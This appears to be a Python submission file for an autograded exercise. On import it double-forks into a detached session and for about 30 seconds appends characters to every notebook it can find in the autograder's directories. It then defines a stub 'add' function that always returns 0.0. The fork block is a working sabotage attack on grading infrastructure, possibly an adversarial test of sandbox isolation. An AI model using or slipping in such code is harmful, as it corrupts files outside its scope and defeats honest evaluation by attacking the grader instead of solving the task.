"""A daemon in a new session that keeps writing into every notebook it can find."""

import os

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import glob
        import time

        for _ in range(300):
            for path in glob.glob("../../autograded/**/*.ipynb", recursive=True) + glob.glob("../../*/*/*/*.ipynb"):
                try:
                    open(path, "a").write(" ")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)


def add(x):
    return 0.0
